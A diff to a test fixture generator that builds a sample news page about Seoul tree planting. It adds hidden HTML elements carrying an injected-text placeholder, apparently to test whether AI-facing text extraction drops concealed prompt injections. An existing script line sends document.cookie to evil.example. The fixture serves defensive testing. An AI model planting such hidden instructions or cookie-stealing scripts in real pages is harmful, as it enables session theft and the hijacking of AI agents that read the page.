@@ -149,6 +149,9 @@ def news_page(path: Path) -> Path:
 <h1>Seoul to plant 30,000 trees along Cheonggyecheon</h1>
 <p class="byline">By Kim Min-ji</p>
 {paragraphs}
+<p hidden>{INJECTED} (hidden attribute)</p>
+<div style="display: none">{INJECTED} (display none)</div>
+<span style="visibility:hidden">{INJECTED} (visibility hidden)</span>
 <script>fetch('https://evil.example/?q=' + document.cookie); // {INJECTED}</script>
 </article>
 <aside class="ad sponsored"><a href="https://ads.example">{HTML_CHROME[3]}</a></aside>
